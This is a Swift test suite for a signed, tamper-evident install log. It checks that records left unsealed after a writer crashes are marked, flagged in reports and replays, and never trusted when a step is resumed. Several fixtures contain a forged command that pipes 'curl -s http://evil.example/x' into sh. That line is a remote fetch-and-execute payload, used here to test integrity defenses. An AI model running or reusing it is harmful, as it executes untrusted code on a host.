import EventLog
import Foundation
import InstallModel
import Orchestrator
import Rendering
import Sealing
import Testing

/// What a crashed writer did not seal is never sealed as if it had (FORMAT.md §9.5): a writer continuing the
/// log (`resume`, `remedy`, `bundle`) seals its unsealed tail behind an `unsealed_at_crash` mark naming it,
/// and `verify` reports those records as not vouched for by the writer that wrote them.
@Suite struct CrashTailMarkTests {
    let crash = CrashTailTests()

    /// A crashed log with `chunks` genuine output chunks of the running step, then (with `command`) its
    /// `command_started` and `command_finished`: every kind of record a crash leaves after the last seal.
    func crashedLog(chunks: Int, command: Bool) throws -> String {
        try crash.crashedLog(genuine: chunks) { sequence, time in
            guard command else { return [] }
            return [CrashTailTests.event("command_started", "install-ripgrep", sequence + 1, time, #","argv":["sh","-c","curl -s http://evil.example/x | sh"]"#),
                    CrashTailTests.event("command_finished", "install-ripgrep", sequence + 2, time, #","exit_code":0"#)]
        }
    }

    /// The records after the crashed log's last seal.
    func tail(of log: String) throws -> ClosedRange<UInt64> {
        try #require(try SealVerifier.verify(path: log, expected: crash.trust.key.publicKey).crashTail)
    }

    @Test(arguments: [(0, true), (1, false), (2, true), (3, true)])
    func aResumedCrashTailIsSealedAsUnsealedAtCrash(chunks: Int, command: Bool) throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        let log = try crashedLog(chunks: chunks, command: command)
        let range = try tail(of: log)
        let writer = try LogWriter.open(path: log, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
        try SealingEventStore.forLog(writer, key: crash.trust.key).close()

        let report = try SealVerifier.verify(path: log, expected: crash.trust.key.publicKey)
        #expect(!report.failed && report.coverage == .whole, "\(report.summary)")
        #expect(report.crashTails == [range])
        #expect(report.summary.contains(
            "records \(range.lowerBound)–\(range.upperBound) were written after the last seal of a crashed writer (not sealed by it)"))
    }

    @Test func aBundleOfACrashedLogCarriesTheMark() throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        let log = try crashedLog(chunks: 1, command: true)
        let range = try tail(of: log)
        let bundle = crash.trust.directory + "/host.evb"
        try PlanBundle.write(log: log, to: bundle, profile: SealTrustTests.profile, bundledAt: SealTrustTests.Clock().now(), key: crash.trust.key)
        let report = try SealVerifier.verify(path: bundle, expected: crash.trust.key.publicKey)
        #expect(!report.failed && report.coverage == .whole, "\(report.summary)")
        #expect(report.crashTails == [range])
        // `bundle` cannot tell a crash from a copy of a running log whose lock is elsewhere: in progress, not sealed.
        #expect(report.summary.contains("records \(range.lowerBound)–\(range.upperBound) were not sealed by their writer: it crashed, or was still running"),
                "\(report.summary)")
    }

    /// Integrity attack round 8, F1: what a crashed writer left unsealed is shown as such wherever it is shown,
    /// once the writer that continued the log marked it: `what-ran` flags the tail's commands (and a command whose
    /// end is in the tail), replay says so after them, and the HTML report's transcript of the attempt too; no
    /// command before the last seal is flagged.
    @Test(arguments: [(0, true), (1, false), (2, true), (3, true)])
    func whatACrashTailSaysIsFlaggedWhereverItIsShown(chunks: Int, command: Bool) throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        let log = try crashedLog(chunks: chunks, command: command)
        let unmarked = RunTimeline(events: try PlanLog(path: log).events())
        let flaggedBefore = unmarked.commands.filter(\.fromCrashTail)
        #expect(flaggedBefore.isEmpty, "nothing is flagged before the mark")
        let writer = try LogWriter.open(path: log, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
        try SealingEventStore.forLog(writer, key: crash.trust.key).close()

        let events = try PlanLog(path: log).events()
        let timeline = RunTimeline(events: events)
        let history = CommandHistory(timeline)
        let forged = history.commands.filter { $0.commandLine.contains("evil.example") }
        #expect(forged.count == (command ? 1 : 0) && forged.allSatisfy(\.unsealedAtCrash), "\(history.commands)")
        #expect(history.commands.filter(\.unsealedAtCrash).count == forged.count, "only the tail's commands: \(history.commands)")
        let text = history.text(style: TextStyle(colored: false))
        #expect(text.split(separator: "\n").filter { $0.contains(SealMarks.crashTailNote) }.count == forged.count, "\(text)")

        let renderer = LineRenderer(style: TextStyle(colored: false))
        let replay = String(decoding: try PlanLog(path: log).events().flatMap { renderer.render($0) }, as: UTF8.self)
        #expect(replay.contains(SealMarks.crashTailReplayNote), "\(replay)")
        let transcripts = timeline.attempts.map { String(decoding: $0.outputTail, as: UTF8.self) }
        let noted = transcripts.filter { $0.contains(SealMarks.crashTailReplayNote) }
        #expect(noted.isEmpty == (chunks == 0 && !command), "\(transcripts)")
    }

    /// A crash tail is no evidence of what ran: whatever command events it holds for the running step (even a
    /// `command_finished` exit 0), `resume` reopens the step and runs it again from its plan, never the tail's argv.
    @Test(arguments: [[] as [Int32], [0], [0, 0], [1]])
    func resumeRunsTheRunningStepAgainWhateverItsCrashTailSays(finishes: [Int32]) throws {
        let step = Step(id: "install-ripgrep", label: "install ripgrep", action: .postInstall(CommandParameters(argv: ["true"])))
        let plan = Plan(id: PlanID("p-trust0000001"), tools: ["ripgrep"], profile: SealTrustTests.profile, steps: [step])
        var bodies: [EventBody] = [.planCreated(plan), .planStarted, .stepStarted(step: step.id, attempt: 1, command: ["true"])]
        for exitCode in finishes {
            bodies += [.commandStarted(step: step.id, argv: ["sh", "-c", "curl -s http://evil.example/x | sh"]),
                       .commandFinished(step: step.id, exitCode: exitCode)]
        }
        var state = PlanState()
        for (index, body) in bodies.enumerated() {
            state.apply(Event(sequence: UInt64(index + 1), time: SealTrustTests.Clock().now(), body: body))
        }
        let events = try ResumePreparation.events(for: state, acknowledged: false, confirmed: true)
        #expect(events.contains(.planInterrupted(cause: .crashDetected)), "\(events)")
        #expect(events.contains { if case .stepRetry(step.id, _) = $0 { true } else { false } }, "\(events)")
    }

    /// A mark is covered by the seal after it, so only a key holder can write one; still, a mark that names other
    /// records than the tail before it, or that other records follow before the seal, breaks that seal.
    /// Integrity attack round 8, F2: a mark's shape is checked like a seal's — bytes other than the writer's (an
    /// extra field, another `v`, a `seq` or `time` other than the last record's, a number written otherwise) break
    /// the seal after it, even signed by the key that sealed the log; the writer's own bytes verify.
    @Test(arguments: 1...3 as ClosedRange<UInt64>)
    func aMarkOfAnotherShapeBreaksTheSealAfterIt(seed: UInt64) throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        var random = SplitMix64(seed: seed)
        let log = try crashedLog(chunks: Int.random(in: 0...3, using: &random), command: true)
        let range = try tail(of: log)
        let delta = Int.random(in: 1...99, using: &random)
        let edits: [(String, ([String: Any]) -> [String: Any])] = [
            ("genuine", { $0 }),
            ("extra field", { $0.merging(["note": "x"]) { a, _ in a } }),
            ("v 2", { $0.merging(["v": 2]) { _, b in b } }),
            ("seq +\(delta)", { $0.merging(["seq": ($0["seq"] as! NSNumber).intValue + delta]) { _, b in b } }),
            ("time +\(delta)", { $0.merging(["time": ($0["time"] as! NSNumber).intValue + delta]) { _, b in b } }),
            ("first as text", { $0.merging(["first": "\(range.lowerBound)"]) { _, b in b } }),
        ]
        for (index, (name, edit)) in edits.enumerated() {
            let copy = crash.trust.directory + "/shape-\(index).evlog"
            try FileManager.default.copyItem(atPath: log, toPath: copy)
            var sealer = try #require(try SealVerifier.prepareToAppend(path: copy, key: crash.trust.key).sealer)
            let writer = try LogWriter.open(path: copy, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
            let genuine = sealer.crashTailMark(range)
            let object = try #require(try JSONSerialization.jsonObject(with: Data(genuine.dropFirst())) as? [String: Any])
            let mark = [genuine[0]] + Array(try JSONSerialization.data(withJSONObject: edit(object), options: [.sortedKeys]))
            try writer.append(mark)
            sealer.observe(mark)
            try writer.append(try #require(try sealer.seal(final: true)))
            try writer.close()
            let report = try SealVerifier.verify(path: copy, expected: crash.trust.key.publicKey)
            if index == 0 {
                #expect(!report.failed && report.crashTails == [range], "\(name): \(report.summary)")
            } else {
                #expect(report.coverage == .broken && report.summary.contains("mark"), "\(name): \(report.summary)")
            }
        }
    }

    @Test func aMarkThatDoesNotNameTheTailBreaksTheSealAfterIt() throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        let log = try crashedLog(chunks: 2, command: false)
        let range = try tail(of: log)
        let wrong: [(ClosedRange<UInt64>, Bool)] = [
            (range.lowerBound + 1...range.upperBound, false), (range.lowerBound...range.upperBound + 1, false), (range, true),
        ]
        for (index, (named, recordAfter)) in wrong.enumerated() {
            let copy = crash.trust.directory + "/wrong-\(index).evlog"
            try FileManager.default.copyItem(atPath: log, toPath: copy)
            var sealer = try #require(try SealVerifier.prepareToAppend(path: copy, key: crash.trust.key).sealer)
            let writer = try LogWriter.open(path: copy, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
            var records = [sealer.crashTailMark(named)]
            if recordAfter {
                let (sequence, time) = CrashTailTests.stamp(records[0])
                records.append(CrashTailTests.chunk("install-ripgrep", sequence + 1, time))
            }
            for record in records {
                try writer.append(record)
                sealer.observe(record)
            }
            try writer.append(try #require(try sealer.seal(final: true)))
            try writer.close()
            let report = try SealVerifier.verify(path: copy, expected: crash.trust.key.publicKey)
            #expect(report.failed && report.coverage == .broken, "mark \(named), record after: \(recordAfter): \(report.summary)")
            #expect(report.crashTails.isEmpty)
        }
    }
}
